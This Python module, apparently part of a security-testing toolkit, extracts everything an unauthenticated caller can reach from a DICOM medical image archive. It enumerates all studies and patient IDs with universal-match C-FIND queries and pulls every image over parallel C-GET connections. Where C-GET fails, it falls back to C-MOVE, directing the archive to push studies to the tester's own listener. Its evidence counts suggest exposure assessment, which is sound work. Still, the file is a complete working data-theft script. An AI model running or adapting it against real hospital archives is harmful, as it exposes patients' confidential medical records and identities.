"""Takes everything that an archive gives a stranger: studies listed, then images by C-GET.

Several associations fetch at once; where C-GET gives nothing, C-MOVE to a listener of ours is
tried, since many archives know only that.
"""

import queue
import threading

from pydicom.dataset import Dataset

from lab.asking import every_study
from lab.attempts import model_of, open_inbox, tls_of
from lab.conversation import SUCCESS, Conversation
from lab.loot import Loot
from lab.marked import is_marked
from lab.probe import NotTestedError
from lab.scene import Scene
from lab.sop_classes import (
    PATIENT_ROOT_FIND,
    PATIENT_ROOT_GET,
    PATIENT_ROOT_MOVE,
    STORAGE,
    STUDY_ROOT_FIND,
    STUDY_ROOT_GET,
    STUDY_ROOT_MOVE,
)
from lab.target import Target

ASSOCIATIONS = 3
"""C-GETs at once."""


class Plunder:
    """The studies that were listed, and what became of fetching them."""

    def __init__(self, scene: Scene) -> None:
        self._scene = scene
        self._studies: dict[str, Dataset] = {}
        self._lock = threading.Lock()
        self.broke_off = False
        """Whether a retrieval ended without success, so that counts are lower bounds."""

    def came(self, way: Target, level: int, *, writable: bool) -> None:
        """Told how far each way led."""

    @property
    def patients(self) -> set[str]:
        """Patient IDs that were listed."""
        return {str(study.get("PatientID", "")) for study in self._studies.values()}

    @property
    def listed(self) -> str:
        """For evidence."""
        return f"{len(self.patients)} patients with {len(self._studies)} studies were listed"

    @property
    def announced(self) -> int | None:
        """Images that the listed studies have in all, where the archive says so."""
        counts = [study.get("NumberOfStudyRelatedInstances") for study in self._studies.values()]
        return sum(int(count) for count in counts if count is not None) or None

    def list_studies(self, way: Target) -> bool:
        """Ask for everything by universal matching; whether a record came (marked ones count not).

        An archive that holds nothing but marked instances has leaked a record all the same.
        """
        with way.converse(STUDY_ROOT_FIND, PATIENT_ROOT_FIND) as talk:
            model = model_of(talk, STUDY_ROOT_FIND, PATIENT_ROOT_FIND)
            _, matches = talk.find(model, every_study())
        for match in matches:
            if not is_marked(str(match.get("PatientID", ""))):
                self._studies[str(match.get("StudyInstanceUID", ""))] = match
        return bool(matches)

    def take_images(self, way: Target, loot: Loot) -> None:
        """Fetch every listed study that has images left to fetch."""
        waiting: queue.SimpleQueue[Dataset] = queue.SimpleQueue()
        for study in sorted(self._studies.values(), key=_size, reverse=True):
            waiting.put(study)
        threads = [
            threading.Thread(target=self._get_some, args=(way, waiting, loot), daemon=True)
            for _ in range(min(ASSOCIATIONS, len(self._studies)))
        ]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        if self._studies and not loot.images:
            self._move_all(way, loot)

    def _get_some(self, way: Target, waiting: "queue.SimpleQueue[Dataset]", loot: Loot) -> None:
        with way.converse(STUDY_ROOT_GET, PATIENT_ROOT_GET, receiving=STORAGE) as talk:
            model = model_of(talk, STUDY_ROOT_GET, PATIENT_ROOT_GET)
            while talk.established and (study := _next(waiting)) is not None:
                transfer = talk.get(model, _whole(study, model), loot.receive)
                self._note(transfer.status)

    def _move_all(self, way: Target, loot: Loot) -> None:
        """Ask that the studies be sent to our own title, where such a title is called back."""
        if self._scene.callback_port is None:
            return
        address = (way.local_address or self._scene.listens_at, self._scene.callback_port)
        tls = tls_of(self._scene.stranger)
        try:
            inbox = open_inbox(address, way.calling_ae_title, tls, loot.receive)
        except NotTestedError:
            self.broke_off = True
            return
        with inbox, way.converse(STUDY_ROOT_MOVE, PATIENT_ROOT_MOVE) as talk:
            model = model_of(talk, STUDY_ROOT_MOVE, PATIENT_ROOT_MOVE)
            self._move_each(talk, model, way.calling_ae_title)

    def _move_each(self, talk: Conversation, model: str, destination: str) -> None:
        for study in self._studies.values():
            if not talk.established:
                return
            self._note(talk.move(model, _whole(study, model), destination).status)

    def _note(self, status: int | None) -> None:
        with self._lock:
            self.broke_off = self.broke_off or status != SUCCESS


def _size(study: Dataset) -> int:
    return int(study.get("NumberOfStudyRelatedInstances") or 0)


def _next(waiting: "queue.SimpleQueue[Dataset]") -> Dataset | None:
    try:
        return waiting.get_nowait()
    except queue.Empty:
        return None


def _whole(study: Dataset, model: str) -> Dataset:
    """A retrieve identifier of one study."""
    ds = Dataset()
    ds.QueryRetrieveLevel = "STUDY"
    ds.StudyInstanceUID = study.StudyInstanceUID
    if model in {PATIENT_ROOT_GET, PATIENT_ROOT_MOVE}:
        ds.PatientID = study.PatientID
    return ds
